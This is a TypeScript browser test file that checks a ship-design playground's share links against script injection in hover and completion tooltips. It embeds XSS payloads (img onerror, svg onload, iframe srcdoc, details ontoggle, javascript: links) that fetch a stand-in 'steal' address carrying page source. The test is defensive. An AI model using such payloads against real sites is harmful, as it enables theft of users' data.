/// <reference lib="dom" />
// A share link is a stranger's text. Each payload below rides in a link's source; the page opens
// it, the test hovers and completes where that text is shown as documentation, and then checks
// that no script ran (the payloads set window.__pwned), no element of the payload became live in
// the tooltip, and no request left the page's origin (they also fetch an outside address).
import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { CHROMIUM, openPage, type PageWithErrors, usePlayground } from './chromium';

const OUTSIDE = 'http://198.51.100.7/steal';
const run = (tag: string) => `window.__pwned='${tag}';fetch('${OUTSIDE}?d='+encodeURIComponent(window.drydock.source().slice(0,40)))`;

function shareHash(source: string): string {
  return `#s=${deflateRawSync(Buffer.from(source, 'utf8')).toString('base64url')}`;
}

interface Case {
  name: string;
  source: string;
  /** Where to hover (the first occurrence of this text after `after`, plus one character). */
  hover?: { text: string; after?: string };
  /** Where to ask for completion: the cursor goes right after this text, then Ctrl-Space. */
  complete?: string;
}

const img = (tag: string) => `<img src=x onerror="${run(tag)}">`;
const CASES: Case[] = [
  { name: 'a ship doc comment, hovered', source: `ruleset sfb\n/// ${img('ship')}\nship Zz { sizeClass: 4 }\n`, hover: { text: 'Zz' } },
  {
    name: 'a ship doc comment, in completion',
    source: `ruleset sfb\n/// ${img('ship-completion')} <svg onload="${run('svg')}"></svg>\nship Zz { sizeClass: 4 }\nship Yy extends Zz { }\n`,
    complete: 'extends Z',
  },
  {
    name: 'a system type doc comment, hovered and completed',
    source: `ruleset sfb\n/// <iframe srcdoc="<script>${run('iframe')}</script>"></iframe> ${img('type')}\nsystem LongIon extends ionCannon { impulseCost: 1.5 }\nship Zz {\n  sizeClass: 4\n  LongIon A { arc: FA }\n  LongI\n}\n`,
    hover: { text: 'LongIon', after: 'ship Zz' },
    complete: '  LongI',
  },
  { name: 'an arc doc comment, hovered', source: `ruleset sfb\n/// <details open ontoggle="${run('arc')}">x</details>\narc WIDE = 240..120\nship Zz {\n  sizeClass: 4\n  ionCannon A { arc: WIDE }\n}\n`, hover: { text: 'WIDE', after: 'arc:' } },
  {
    name: 'javascript: links, inline and by reference',
    source: `ruleset sfb\n/// [click me](javascript:${run('link')}) [again][r] [third](JaVa\\Script:${run('link3')})\n/// \n/// [r]: javascript:${run('ref')}\nship Zz { sizeClass: 4 }\n`,
    hover: { text: 'Zz' },
  },
  { name: 'a system doc comment with an escaped backtick', source: `ruleset sfb\nship Zz {\n  sizeClass: 4\n  /// \\\`${img('tick')}\\\`\n  ionCannon A { arc: FA }\n}\n`, hover: { text: 'A {' } },
  { name: 'a ship name drawn on the sheet', source: `ruleset sfb\nship Zz {\n  name: "${img('sheet').replace(/"/g, "'")}"\n  sizeClass: 4\n  ionCannon A { arc: FA }\n}\n` },
];

const pg = usePlayground();

async function offsetCoords(page: PageWithErrors, offset: number) {
  return page.evaluate((o) => {
    const view = (window as unknown as { drydock: { view: { coordsAtPos(n: number): { left: number; top: number; bottom: number } | null } } }).drydock.view;
    const c = view.coordsAtPos(o)!;
    return { x: c.left + 2, y: (c.top + c.bottom) / 2 };
  }, offset);
}

/** Everything the page shows that came from documentation: live elements an attack would need. */
async function liveParts(page: PageWithErrors) {
  return page.evaluate(() => {
    const tips = Array.from(document.querySelectorAll('.cm-tooltip, #preview'));
    const bad: string[] = [];
    for (const t of tips) {
      for (const e of Array.from(t.querySelectorAll('*'))) {
        const name = e.tagName.toLowerCase();
        if (['img', 'image', 'iframe', 'script', 'object', 'embed', 'details', 'foreignobject', 'use', 'form', 'input'].includes(name)) bad.push(name);
        for (const a of e.getAttributeNames()) if (/^on/i.test(a) || ((a === 'href' || a === 'src' || a === 'xlink:href') && !/^(https?:|mailto:|#)/i.test(e.getAttribute(a) ?? ''))) bad.push(`${name}[${a}=${e.getAttribute(a)}]`);
      }
    }
    return bad;
  });
}

describe.skipIf(!CHROMIUM && !process.env.CI)('hostile share links in Chromium', { retry: 1 }, () => {
  it('the page states a strict Content Security Policy', async () => {
    const page = await openPage(pg());
    const csp = await page.$eval('meta[http-equiv="Content-Security-Policy"]', (e) => e.getAttribute('content') ?? '');
    expect(csp).toMatch(/script-src 'self'(;|$)/);
    expect(csp).toMatch(/connect-src 'self'(;|$)/);
    expect(csp).not.toMatch(/unsafe-inline'[^;]*;.*script|script-src[^;]*unsafe/);
    await page.close();
  }, 120000);

  for (const c of CASES) {
    it(`${c.name}: no script runs and nothing leaves the origin`, async () => {
      const page = await openPage(pg(), shareHash(c.source));
      await page.waitForFunction((t) => (window as unknown as { drydock: { source(): string } }).drydock.source() === t, { timeout: 30000 }, c.source).catch(async () => {
        throw new Error(`the page did not open the link's source: ${JSON.stringify(await page.evaluate(() => (window as unknown as { drydock: { source(): string } }).drydock.source()))}`);
      });
      await page.waitForFunction(() => document.querySelector('#preview svg') !== null || document.getElementById('preview')!.textContent !== '', { timeout: 60000 });
      if (c.hover) {
        const from = c.hover.after ? c.source.indexOf(c.hover.after) : 0;
        const at = await offsetCoords(page, c.source.indexOf(c.hover.text, from) + 1);
        await page.mouse.move(at.x, at.y);
        await page.waitForSelector('.cm-tooltip-hover', { timeout: 30000 });
        await page.waitForFunction(() => (document.querySelector('.cm-tooltip-hover')?.textContent ?? '').length > 0, { timeout: 30000 });
        // The text is shown, as text: the reader sees what the file says.
        const shown = await page.$eval('.cm-tooltip-hover', (e) => e.textContent ?? '');
        expect(shown.length).toBeGreaterThan(0);
        expect(await liveParts(page)).toEqual([]);
        // Clicking every link the tooltip has must not run anything either.
        await page.$$eval('.cm-tooltip-hover a', (links) => links.forEach((l) => (l as HTMLElement).click()));
        await page.mouse.move(1, 1);
      }
      if (c.complete) {
        await page.evaluate((o) => {
          const view = (window as unknown as { drydock: { view: { dispatch(s: unknown): void; focus(): void } } }).drydock.view;
          view.dispatch({ selection: { anchor: o } });
          view.focus();
        }, c.source.indexOf(c.complete) + c.complete.length);
        await page.keyboard.down('Control');
        await page.keyboard.press('Space');
        await page.keyboard.up('Control');
        await page.waitForSelector('.cm-tooltip-autocomplete li[aria-selected]', { timeout: 30000 });
        await page.waitForSelector('.cm-completionInfo', { timeout: 30000 });
        expect(await liveParts(page)).toEqual([]);
      }
      // Give any payload that did slip through every chance to act: a round trip to the worker.
      await page.evaluate(() => (window as unknown as { drydock: { client: { request(m: string, p: unknown): Promise<unknown> } } }).drydock.client.request('drydock/ships', { uri: 'file:///playground/ship.ship' }).catch(() => undefined));
      expect(await liveParts(page)).toEqual([]);
      expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
      const origin = new URL(pg().url).origin;
      const off = page.requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:') && !u.startsWith('blob:'));
      expect(off).toEqual([]);
      await page.close();
    }, 120000);
  }
});
